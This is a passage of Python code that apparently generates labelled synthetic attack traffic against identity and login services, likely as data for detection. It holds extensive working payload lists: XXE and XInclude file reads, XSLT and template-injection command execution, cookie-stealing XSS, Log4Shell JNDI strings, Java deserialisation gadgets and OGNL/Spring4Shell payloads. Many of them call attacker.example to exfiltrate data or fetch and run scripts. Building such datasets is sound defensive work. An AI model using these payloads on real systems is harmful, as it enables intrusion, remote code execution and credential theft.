            c.add("ssrf", "relaystate", "GET", "/idp/profile/SAML2/Redirect/SSO?" + query([("SAMLRequest", b64(deflate(xml.encode()))), ("RelayState", t)]), "idp.uni.example.edu")
    # request_uri (OIDC request objects by reference, PAR misuse)
    for i in range(6):
        t = next(it)
        ps = [("client_id", rtok(rng, 20)), ("response_type", "code"), ("scope", "openid"), ("request_uri", t)]
        if i % 3 == 2:
            c.add("ssrf", "request-uri", "POST", "/par", rng.choice(IDP_HOSTS), [["Authorization", "Basic " + b64(f"{rtok(rng, 20)}:{rtok(rng, 32)}".encode())]], form(ps), FORM, browser=False, ua=rng.choice(SERVER_UAS))
        else:
            c.add("ssrf", "request-uri", "GET", "/authorize?" + query(ps), rng.choice(IDP_HOSTS))
    # dynamic client registration
    fields = ["jwks_uri", "sector_identifier_uri", "logo_uri", "request_uris", "initiate_login_uri", "backchannel_logout_uri", "client_uri", "redirect_uris", "frontchannel_logout_uri", "tos_uri", "policy_uri", "jwks_uri"]
    for f in fields:
        t = next(it)
        body = {"client_name": "Integration " + rtok(rng, 4), "redirect_uris": ["https://client.attacker.example/cb"], "grant_types": ["authorization_code"],
                "token_endpoint_auth_method": "private_key_jwt", "jwks_uri": "https://client.attacker.example/jwks.json"}
        body[f] = [t] if f in ("request_uris", "redirect_uris") else t
        c.add("ssrf", "client-registration", "POST", rng.choice(["/register", "/connect/register", "/realms/acme/clients-registrations/openid-connect", "/oauth2/register"]),
              rng.choice(IDP_HOSTS), [], jdump(body), JSON, ua=rng.choice(SERVER_UAS), browser=False)
    # URLs an identity service fetches: IdP metadata, federation issuer, avatar import, webhooks
    for i in range(10):
        t = next(it)
        k = i % 5
        app = rng.choice(APP_HOSTS)
        bearer = ["Authorization", "Bearer " + access_token(rng, "https://login.example.com/", scopes="admin")]
        if k == 0:
            c.add("ssrf", "fetch-url", "POST", "/admin/sso/saml/connections", app, [bearer], jdump({"name": "Partner IdP", "metadataUrl": t, "signRequests": True}), JSON)
        elif k == 1:
            c.add("ssrf", "fetch-url", "POST", "/api/sso/oidc/discover", app, [bearer], jdump({"issuer": t, "clientId": rtok(rng, 16)}), JSON)
        elif k == 2:
            c.add("ssrf", "fetch-url", "PATCH", "/api/v1/users/me", rng.choice(API_HOSTS), [bearer], jdump({"avatarUrl": t}), JSON)
        elif k == 3:
            c.add("ssrf", "fetch-url", "POST", "/admin/realms/acme/identity-provider/import-config", "keycloak.example.net", [bearer], jdump({"providerId": "oidc", "fromUrl": t}), JSON)
        else:
            c.add("ssrf", "fetch-url", "POST", "/api/v2/hooks", "acme.eu.auth0.com", [bearer], jdump({"name": "post-login-webhook", "url": t, "events": ["user.login", "user.password_changed"]}), JSON)


XXE_DOCTYPES = [
    ('<!DOCTYPE samlp:Response [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "&xxe;"),
    ('<!DOCTYPE r [<!ENTITY % dtd SYSTEM "http://attacker.example/evil.dtd"> %dtd;]>', None),
    ('<!DOCTYPE foo [<!ENTITY xxe SYSTEM "php://filter/convert.base64-encode/resource=/var/www/html/config.php">]>', "&xxe;"),
    ('<!DOCTYPE foo [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/iam/security-credentials/">]>', "&xxe;"),
    ('<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///c:/windows/win.ini">]>', "&xxe;"),
    ('<!DOCTYPE foo PUBLIC "-//B/A/EN" "http://attacker.example/x.dtd">', None),
    ('<!DOCTYPE message [<!ENTITY % local_dtd SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd"><!ENTITY % ISOamso \'<!ENTITY &#x25; file SYSTEM "file:///etc/passwd"><!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///nonexistent/&#x25;file;&#x27;>">&#x25;eval;&#x25;error;\'>%local_dtd;]>', None),
    ('<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>', "&lol4;"),
    ('<!DOCTYPE x [ <!ENTITY  xxe   SYSTEM  "file:///proc/self/environ" > ]>', "&xxe;"),
    ('<!DOCTYPE Response [<!ENTITY % a SYSTEM "ftp://attacker.example:2121/x.dtd">%a;%b;]>', None),
    ('<!DOCTYPE foo [<!ENTITY xxe SYSTEM "expect://id">]>', "&xxe;"),
    ('<!DOCTYPE foo [<!ENTITY xxe SYSTEM "jar:http://attacker.example/evil.jar!/x">]>', "&xxe;"),
]
XINCLUDE = '<saml:AttributeValue><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file:///etc/shadow"/></saml:AttributeValue>'
XSLT_TRANSFORMS = [
    ('<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" '
     'xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime" xmlns:ob="http://xml.apache.org/xalan/java/java.lang.Object"><xsl:template match="/">'
     '<xsl:variable name="rtobject" select="rt:getRuntime()"/><xsl:variable name="process" select="rt:exec($rtobject,\'curl http://attacker.example/x\')"/>'
     '<xsl:value-of select="ob:toString($process)"/></xsl:template></xsl:stylesheet></ds:Transform>'),
    ('<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
     '<xsl:template match="doc"><xsl:variable name="file" select="unparsed-text(\'/etc/passwd\')"/><xsl:variable name="escaped" select="encode-for-uri($file)"/>'
     '<xsl:variable name="attackerUrl" select="\'http://attacker.example/\'"/><xsl:value-of select="unparsed-text(concat($attackerUrl,$escaped))"/></xsl:template></xsl:stylesheet></ds:Transform>'),
    ('<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
     '<xsl:template match="/"><xsl:copy-of select="document(\'http://attacker.example/xslt-oob\')"/><xsl:value-of select="document(\'file:///etc/hostname\')"/></xsl:template></xsl:stylesheet></ds:Transform>'),
    ('<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:php="http://php.net/xsl">'
     '<xsl:template match="/"><xsl:value-of select="php:function(\'system\',\'id\')"/></xsl:template></xsl:stylesheet></ds:Transform>'),
]


def with_xslt(xml, transform):
    return xml.replace('<ds:Transforms>', '<ds:Transforms>' + transform, 1)


def attack_xxe(c, rng):
    app = "app.example.com"
    for i, (dt, ref) in enumerate(XXE_DOCTYPES):
        p = person(rng)
        acs = f"https://{app}/saml/acs"
        if i % 3 == 2:
            xml = authn_request_xml(rng, "https://sp.attacker.example/sp", "idp.uni.example.edu", acs, doctype=dt)
            if ref:
                xml = xml.replace("<saml:Issuer>https://sp.attacker.example/sp</saml:Issuer>", f"<saml:Issuer>{ref}</saml:Issuer>")
            c.add("xxe", "saml-post", "POST", "/idp/profile/SAML2/POST/SSO", "idp.uni.example.edu", [origin(app)], form([("SAMLRequest", b64(xml.encode())), ("RelayState", "/")]), FORM)
        else:
            xml = saml_response_xml(rng, p, "idp.uni.example.edu", acs, f"https://{app}/saml/metadata", nameid=ref or p["email"], inject_doctype=dt)
            ps = [("SAMLResponse", b64(xml.encode()))]
            if rng.random() < 0.5:
                ps.append(("RelayState", relay_state(rng, app)))
            c.add("xxe", "saml-post", "POST", rng.choice(["/saml/acs", "/Shibboleth.sso/SAML2/POST", "/auth/saml/callback", "/saml2/acs/"]), app, [origin("idp.uni.example.edu")], form(ps), FORM)
    # XInclude in an attribute value, base64 and raw
    xml = saml_response_xml(rng, person(rng), "idp.uni.example.edu", f"https://{app}/saml/acs", f"https://{app}/saml/metadata",
                            attr_extra='<saml:Attribute Name="department">' + XINCLUDE + '</saml:Attribute>')
    c.add("xxe", "saml-post", "POST", "/saml/acs", app, [origin("idp.uni.example.edu")], form([("SAMLResponse", b64(xml.encode()))]), FORM)
    # plain XML posts: SOAP/ECP/WS-Trust endpoints, XML-RPC logins, SAML metadata upload
    plain = [
        ("/saml/acs", "text/xml", lambda dt, ref: saml_response_xml(rng, person(rng), "idp.uni.example.edu", f"https://{app}/saml/acs", f"https://{app}/saml/metadata", nameid=ref or "x@example.com", inject_doctype=dt)),
        ("/adfs/services/trust/13/usernamemixed", "application/soap+xml; charset=utf-8", lambda dt, ref: '<?xml version="1.0"?>' + dt +
         '<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope" xmlns:a="http://www.w3.org/2005/08/addressing" xmlns:u="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd">'
         '<s:Header><a:Action s:mustUnderstand="1">http://docs.oasis-open.org/ws-sx/ws-trust/200512/RST/Issue</a:Action><a:To s:mustUnderstand="1">https://sts.contoso.com/adfs/services/trust/13/usernamemixed</a:To>'
         '<o:Security s:mustUnderstand="1" xmlns:o="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd"><o:UsernameToken u:Id="uuid-1"><o:Username>' + (ref or "CORP\\jdoe") +
         '</o:Username><o:Password>x</o:Password></o:UsernameToken></o:Security></s:Header><s:Body><trust:RequestSecurityToken xmlns:trust="http://docs.oasis-open.org/ws-sx/ws-trust/200512"><trust:RequestType>http://docs.oasis-open.org/ws-sx/ws-trust/200512/Issue</trust:RequestType></trust:RequestSecurityToken></s:Body></s:Envelope>'),
        ("/xmlrpc.php", "text/xml", lambda dt, ref: '<?xml version="1.0"?>' + dt + '<methodCall><methodName>wp.getUsersBlogs</methodName><params><param><value><string>' + (ref or "admin") +
         '</string></value></param><param><value><string>password123</string></value></param></params></methodCall>'),
        ("/idp/profile/SAML2/SOAP/ECP", "application/vnd.paos+xml", lambda dt, ref: '<?xml version="1.0"?>' + dt + '<S:Envelope xmlns:S="http://schemas.xmlsoap.org/soap/envelope/"><S:Body>' +
         authn_request_xml(rng, ref or "https://sp.example.com/shibboleth", "idp.uni.example.edu", f"https://{app}/saml/acs").replace('<?xml version="1.0" encoding="UTF-8"?>', "") + '</S:Body></S:Envelope>'),
        ("/admin/sso/saml/metadata", "application/samlmetadata+xml", lambda dt, ref: '<?xml version="1.0"?>' + dt + f'<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" entityID="https://idp.partner.example/">'
         f'<md:IDPSSODescriptor protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol"><md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect" Location="https://idp.partner.example/sso"/></md:IDPSSODescriptor>'
         f'<md:Organization><md:OrganizationName xml:lang="en">{ref or "Partner"}</md:OrganizationName></md:Organization></md:EntityDescriptor>'),
    ]
    for i in range(12):
        dt, ref = XXE_DOCTYPES[(i * 5) % len(XXE_DOCTYPES)]
        path, ct, build = plain[i % len(plain)]
        host = "sts.contoso.com" if "adfs" in path else ("idp.uni.example.edu" if "ECP" in path else app)
        c.add("xxe", "plain-xml", "POST", path, host, [["SOAPAction", '""']] if "soap" in ct or "paos" in ct else [], build(dt, ref), ct, ua=rng.choice(SERVER_UAS + BROWSER_UAS[:2]))
    # HTTP-Redirect binding: the DOCTYPE is inside deflate + base64
    for i in range(4):
        dt, ref = XXE_DOCTYPES[i]
        xml = authn_request_xml(rng, "https://sp.attacker.example/sp", "idp.uni.example.edu", f"https://{app}/saml/acs", doctype=dt)
        if ref:
            xml = xml.replace("<saml:Issuer>https://sp.attacker.example/sp</saml:Issuer>", f"<saml:Issuer>{ref}</saml:Issuer>")
        c.add("xxe", "saml-redirect", "GET", "/idp/profile/SAML2/Redirect/SSO?" + query([("SAMLRequest", b64(deflate(xml.encode()))), ("RelayState", "/")]), "idp.uni.example.edu")
    # XSLT in the signature's transforms
    for i, tr in enumerate(XSLT_TRANSFORMS + XSLT_TRANSFORMS[:2]):
        xml = with_xslt(saml_response_xml(rng, person(rng), "idp.uni.example.edu", f"https://{app}/saml/acs", f"https://{app}/saml/metadata"), tr)
        if i < 4:
            c.add("xxe", "xslt", "POST", "/saml/acs", app, [origin("idp.uni.example.edu")], form([("SAMLResponse", b64(xml.encode())), ("RelayState", relay_state(rng, app))]), FORM)
        else:
            c.add("xxe", "xslt", "POST", "/saml/acs", app, [], xml, "application/xml", ua=rng.choice(SERVER_UAS))


XSS = [
    "<script>alert(document.domain)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=fetch('//attacker.example/'+document.cookie)>",
    "\"><iframe srcdoc=\"<script>parent.alert(1)</script>\">", "<details open ontoggle=alert(1)>", "<ScRiPt>prompt(1)</sCrIpT>",
    "<a href=\"jav&#x09;ascript:alert(1)\">click</a>", "'-alert(1)-'", "</title><script src=//attacker.example/x.js></script>",
    "<body onload=alert(String.fromCharCode(88,83,83))>", "<img src=1 oNeRrOr=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>",
    "\"onmouseover=\"alert(1)\"x=\"", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<x contenteditable onblur=alert(1)>lose focus!", "<video><source onerror=\"javascript:alert(1)\">", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "${alert(1)}<img src=x onerror=import('//attacker.example/m.js')>",
]
JS_URIS = ["javascript:alert(document.cookie)", "javascript://%0aalert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "javascript:fetch('//attacker.example/?c='+document.cookie)",
           "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", " javascript:alert(1)", "javascript:%61lert(1)", "vbscript:msgbox(1)", "javascript&colon;alert(1)"]


def attack_xss(c, rng):
    xs = list(XSS)
    it = iter(xs * 4)
    # display names at registration and in profiles
    for i in range(16):
        pl = next(it)
        app = rng.choice(APP_HOSTS)
        k = i % 4
        if k == 0:
            c.add("xss", "display-name", "POST", "/register", app, [origin(app)], form([("_token", rtok(rng, 40)), ("name", pl), ("email", "eve@evil.example"), ("password", "Password1!"), ("password_confirmation", "Password1!")]), FORM)
        elif k == 1:
            c.add("xss", "display-name", "PATCH", "/api/v1/users/me", rng.choice(API_HOSTS), [["Authorization", "Bearer " + access_token(rng, "https://login.example.com/")]], jdump({"displayName": pl, "bio": "hi"}), JSON)
        elif k == 2:
            c.add("xss", "display-name", "POST", "/dbconnections/signup", "acme.eu.auth0.com", [origin(app)], jdump({"client_id": rtok(rng, 32), "email": "eve@evil.example", "password": "Password1!", "connection": "Username-Password-Authentication", "given_name": pl, "name": pl}), JSON)
        else:
            c.add("xss", "display-name", "POST", "/users/edit", app, [origin(app)], form([("_method", "patch"), ("authenticity_token", rails_token(rng)), ("user[name]", pl), ("user[bio]", "Hello")]), FORM)
    # state, nonce and login_hint reflected by login pages and callbacks
    for i in range(10):
        pl = next(it)
        app = rng.choice(APP_HOSTS)
        k = i % 3
        if k == 0:
            c.add("xss", "oauth-state", "GET", "/auth/callback?" + query([("code", rtok(rng, 43, B64URL_ALPHA)), ("state", pl)]), app)
        elif k == 1:
            ps, _ = authorize_params(rng, app)
            ps = [(a, pl if a == "state" else b) for a, b in ps]
            c.add("xss", "oauth-state", "GET", "/authorize?" + query(ps, plus=True), rng.choice(IDP_HOSTS))
        else:
            c.add("xss", "oauth-state", "GET", f"/authorize?response_type=code&client_id=web&redirect_uri=https://{app}/cb&scope=openid&login_hint={light(pl)}", rng.choice(IDP_HOSTS))
    # error_description and error pages
    for i in range(8):
        pl = next(it)
        app = rng.choice(APP_HOSTS)
        if i % 2:
            c.add("xss", "error-description", "GET", "/auth/callback?" + query([("error", "access_denied"), ("error_description", "The user denied " + pl), ("state", rtok(rng, 20))]), app)
        else:
            c.add("xss", "error-description", "GET", rng.choice(["/login?error=", "/u/login/error?message=", "/sso/error?msg="]) + q(pl, safe="/:=()'"), app)
    # javascript: redirect URIs
    for i, js in enumerate(JS_URIS + JS_URIS[:2]):
        app = rng.choice(APP_HOSTS)
        k = i % 4
        if k == 0:
            c.add("xss", "redirect-js", "GET", "/authorize?" + query([("response_type", "code"), ("client_id", rtok(rng, 20)), ("redirect_uri", js), ("scope", "openid"), ("state", rtok(rng, 10))]), rng.choice(IDP_HOSTS))
        elif k == 1:
            c.add("xss", "redirect-js", "GET", "/logout?" + query([("post_logout_redirect_uri", js)]), rng.choice(IDP_HOSTS))
        elif k == 2:
            c.add("xss", "redirect-js", "GET", rng.choice(["/login?next=", "/accounts/login/?next=", "/signin?returnUrl=", "/sso?return_to="]) + q(js, safe=":/"), app)
        else:
            c.add("xss", "redirect-js", "POST", "/wp-login.php", app, [origin(app)], form([("log", "jane"), ("pwd", "x"), ("redirect_to", js), ("testcookie", "1")]), FORM)
    # SCIM attributes (provisioned from a compromised or malicious IdP tenant)
    for i in range(6):
        pl = next(it)
        p = person(rng)
        u = scim_user(rng, p)
        u[rng.choice(["displayName", "title", "nickName"])] = pl
        if i % 2:
            c.add("xss", "scim-attr", "POST", "/scim/v2/Users", "scim.acme-corp.com", [["Authorization", "Bearer " + rtok(rng, 40)]], jdump(u, ascii_=False), SCIM, browser=False, ua="Okta SCIM Client 1.0.0")
        else:
            c.add("xss", "scim-attr", "PATCH", f"/scim/v2/Users/{ruuid(rng)}", "scim.acme-corp.com", [["Authorization", "Bearer " + rtok(rng, 40)]],
                  jdump({"schemas": ["urn:ietf:params:scim:api:messages:2.0:PatchOp"], "Operations": [{"op": "replace", "path": "name.givenName", "value": pl}]}), SCIM, browser=False, ua="Microsoft Azure AD SCIM Client")
    # the username echoed on the password-reset or MFA page, and SAML RelayState
    for i in range(6):
        pl = next(it)
        app = rng.choice(APP_HOSTS)
        if i % 3 == 0:
            c.add("xss", "reflected-field", "POST", "/password/forgot", app, [origin(app)], form([("email", "x@example.com" + pl)]), FORM)
        elif i % 3 == 1:
            c.add("xss", "reflected-field", "GET", "/mfa/challenge?" + query([("username", pl), ("method", "totp")]), app)
        else:
            c.add("xss", "reflected-field", "POST", "/saml/acs", app, [], form([("SAMLResponse", b64(saml_response_xml(rng, person(rng), "idp.uni.example.edu", f"https://{app}/saml/acs", f"https://{app}/sp").encode())), ("RelayState", pl)]), FORM)


SSTI = [
    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    "{{''.__class__.__mro__[1].__subclasses__()[401]('cat /etc/passwd',shell=True,stdout=-1).communicate()}}",
    "${T(java.lang.Runtime).getRuntime().exec('curl http://attacker.example/s.sh')}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($chr=$x.class.forName('java.lang.Character'))#set($ex=$rt.getRuntime().exec('id'))",
    "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}",
    "{% import os %}{{os.system('id')}}",
    "*{T(java.lang.Runtime).getRuntime().exec('whoami')}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
    "{system('cat /etc/passwd')}",
    "<%= `id` %>",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'].popen('wget -qO- http://attacker.example/x|sh').read() }}",
    "@(System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\"))",
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
    "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}",
    "#{7*7}${class.getClassLoader().loadClass('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}",
    "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}",
    "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fmro\\x5f\\x5f') }}",
    "{php}echo `id`;{/php}",
]


def attack_ssti(c, rng):
    it = iter(SSTI * 3)
    for i in range(30):
        pl = next(it)
        app = rng.choice(APP_HOSTS)
        bearer = ["Authorization", "Bearer " + access_token(rng, "https://login.example.com/")]
        k = i % 6
        if k == 0:
            c.add("ssti", "profile-field", "PATCH", "/api/v1/users/me", rng.choice(API_HOSTS), [bearer], jdump({"displayName": pl, "bio": "Engineer."}), JSON)
        elif k == 1:
            c.add("ssti", "profile-field", "POST", "/register", app, [origin(app)], form([("name", pl), ("email", "eve@evil.example"), ("password", "Password1!"), ("password_confirmation", "Password1!")]), FORM)
        elif k == 2:
            c.add("ssti", "email-template", "PATCH", "/api/v2/email-templates/reset_email", "acme.eu.auth0.com", [bearer],
                  jdump({"template": "reset_email", "subject": "Reset your password", "body": f"<p>Hi {{{{ user.name }}}},</p><p>{pl}</p><p><a href=\"{{{{ url }}}}\">Reset</a></p>", "enabled": True}), JSON)
        elif k == 3:
            c.add("ssti", "email-template", "POST", "/admin/organizations/acme/invitations", app, [bearer],
                  jdump({"invitee": {"email": "new.hire@example.com"}, "inviter": {"name": "Jane"}, "personalMessage": pl, "roles": ["member"]}), JSON)
        elif k == 4:
            c.add("ssti", "profile-field", "POST", "/account/security-questions", app, [origin(app)], form([("question_1", "What was the name of your first pet?"), ("answer_1", pl), ("csrf", csrf(rng))]), FORM)
        else:
            c.add("ssti", "email-template", "PUT", "/admin/realms/acme/localization/en", "keycloak.example.net", [bearer], jdump({"emailVerificationBody": "Hello " + pl + ", verify: {0}"}), JSON)


JNDI = [
    "${jndi:ldap://attacker.example:1389/Exploit}", "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://x.attacker.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://attacker.example/o}", "${jndi:dns://${hostName}.x7k2.oast.example}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/a}", "${jndi:${lower:l}${lower:d}${lower:a}${lower:p}://attacker.example/a}",
    "${${upper:j}ndi:ldaps://attacker.example/a}", "${jndi:ldap://127.0.0.1#attacker.example:1389/a}", "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://attacker.example/a}",
    "${jndi:rmi://attacker.example:1099/jdk}", "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://attacker.example/a}",
    "${jn${lower:d}i:l${lower:d}ap://attacker.example/${env:AWS_SECRET_ACCESS_KEY}}", "${jndi:iiop://attacker.example/a}", "${jndi:nis://attacker.example/a}",
    "${${sys:os.name:-j}ndi:ldap://attacker.example/a}", "${jndi:ldap://${env:USER}.${sys:java.version}.x7k2.oast.example/a}",
]

GADGETS = [
    ["org.apache.commons.collections.functors.InvokerTransformer", "org.apache.commons.collections.functors.ChainedTransformer", "java.lang.Runtime"],
    ["org.apache.commons.beanutils.BeanComparator", "java.util.PriorityQueue", "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl"],
    ["java.util.HashMap", "java.net.URL"],
    ["org.apache.commons.collections4.comparators.TransformingComparator", "org.apache.commons.collections4.functors.InvokerTransformer"],
    ["sun.reflect.annotation.AnnotationInvocationHandler", "org.apache.commons.collections.map.LazyMap", "org.apache.commons.collections.functors.ConstantTransformer"],
    ["org.springframework.beans.factory.ObjectFactory", "org.springframework.core.SerializableTypeWrapper$MethodInvokeTypeProvider"],
    ["com.mchange.v2.c3p0.PoolBackedDataSource", "com.mchange.v2.naming.ReferenceIndirector$ReferenceSerialized"],
    ["javax.management.BadAttributeValueExpException", "org.apache.commons.collections.keyvalue.TiedMapEntry"],
]


def attack_java(c, rng):
    it = iter(JNDI * 3)
    # Log4Shell in login identifiers
    for i in range(10):
        pl = next(it)
        if i % 3 == 0:
            c.add("java", "log4shell-username", "POST", "/api/v1/authn", "acme.okta.com", [], jdump({"username": pl, "password": "x"}), JSON)
        elif i % 3 == 1:
            m, uri, host, hs, body = login_form_request(rng, fake(pl), "x", user=pl)
            c.add("java", "log4shell-username", m, uri, host, hs, body if rng.random() < 0.5 else rawform(urllib.parse.parse_qsl(body, keep_blank_values=True)), FORM)
        else:
            c.add("java", "log4shell-username", "POST", "/j_spring_security_check", "ci.example.com", [], form([("j_username", pl), ("j_password", "x"), ("from", "/"), ("Submit", "Sign in")]), FORM)
    # Log4Shell in headers of login requests
    for i, h in enumerate(["User-Agent", "X-Forwarded-For", "X-Api-Version", "Referer", "X-Client-IP", "X-Real-IP", "Authorization", "Cookie", "True-Client-IP", "X-Forwarded-Host"]):
        pl = next(it)
        val = pl
        if h == "Authorization":
            val = "Bearer " + pl
        elif h == "Cookie":
            val = "JSESSIONID=" + pl
        elif h == "Referer":
            val = "https://app.example.com/?" + pl
        p = person(rng)
        m, uri, host, hs, body = login_form_request(rng, p, any_password(rng))
        if h == "User-Agent":
            c.add("java", "log4shell-header", m, uri, host, hs, body, FORM, ua=pl)
        else:
            hs = [x for x in hs if x[0] != h] + [[h, val]]
            c.add("java", "log4shell-header", m, uri, host, hs, body, FORM)
    # serialised Java objects in remember-me and session cookies
    for i in range(10):
        g = GADGETS[i % len(GADGETS)]
        blob = b64(java_serialized(rng, g, rng.randbytes(rng.randint(200, 900))))
        name = rng.choice(["rememberMe", "remember-me", "REMEMBERME", "rememberMe", "SESSION_STATE", "userPrefs"])
        app = rng.choice(APP_HOSTS)
        c.add("java", "rememberme-cookie", "GET", rng.choice(["/", "/login", "/account", "/api/me"]), app, [["Cookie", f"JSESSIONID={rhex(rng, 32).upper()}; {name}={blob if i % 3 else q(blob)}"]])
    # JSF ViewState on login pages
    for i in range(6):
        g = GADGETS[(i * 3) % len(GADGETS)]
        blob = b64(java_serialized(rng, g, rng.randbytes(rng.randint(300, 800))))
        app = rng.choice(APP_HOSTS)
        c.add("java", "viewstate", "POST", "/login.xhtml", app, [origin(app)],
              form([("loginForm", "loginForm"), ("loginForm:username", "jdoe"), ("loginForm:password", "x"), ("loginForm:submit", ""), ("javax.faces.ViewState", blob)]), FORM)
    # polymorphic JSON deserialisation in login/profile bodies
    poly = [
        {"username": ["com.sun.rowset.JdbcRowSetImpl", {"dataSourceName": "ldap://attacker.example:1389/Exploit", "autoCommit": True}], "password": "x"},
        {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "rmi://attacker.example:1099/Exploit", "autoCommit": True},
        {"username": "jdoe", "password": "x", "device": {"@type": "java.net.Inet4Address", "val": "x7k2.oast.example"}},
        {"profile": {"@class": "org.springframework.context.support.ClassPathXmlApplicationContext", "configLocation": "http://attacker.example/spel.xml"}},
        {"a": {"@type": "java.lang.Class", "val": "com.sun.rowset.JdbcRowSetImpl"}, "b": {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://attacker.example/a", "autoCommit": True}},
        {"user": ["ch.qos.logback.core.db.DriverManagerConnectionSource", {"url": "jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://attacker.example/inject.sql'"}]},
    ]
    for obj in poly:
        c.add("java", "json-gadget", "POST", rng.choice(["/api/login", "/api/v1/users/me", "/api/session"]), rng.choice(API_HOSTS), [], jdump(obj), JSON)
    # expression language in OAuth and login endpoints (Spring Security OAuth CVE-2016-4977, Struts, Spring4Shell)
    el = [
        ("GET", "/oauth/authorize?" + query([("response_type", "${T(java.lang.Runtime).getRuntime().exec(\"id\")}"), ("client_id", "acme"), ("scope", "openid"), ("redirect_uri", "https://app.example.com/cb")]), None, None, []),
        ("GET", "/oauth/authorize?" + light("response_type=token&client_id=acme&scope=${new java.lang.ProcessBuilder(new String[]{\"curl\",\"http://attacker.example/\"}).start()}&redirect_uri=https://app.example.com/cb", keep="&"), None, None, []),
        ("POST", "/login.action", form([("username", "jdoe"), ("password", "x")]), "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear()).(#context.setMemberAccess(#dm)))).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.redirectErrorStream(true)).(#process=#p.start())}", []),
        ("POST", "/login", form([("username", "jdoe"), ("password", "x"), ("class.module.classLoader.resources.context.parent.pipeline.first.pattern", "%{c2}i if(\"j\".equals(request.getParameter(\"pwd\"))){ java.io.InputStream in = %{c1}i.getRuntime().exec(request.getParameter(\"cmd\")).getInputStream(); }"),
                                 ("class.module.classLoader.resources.context.parent.pipeline.first.suffix", ".jsp"), ("class.module.classLoader.resources.context.parent.pipeline.first.directory", "webapps/ROOT"),
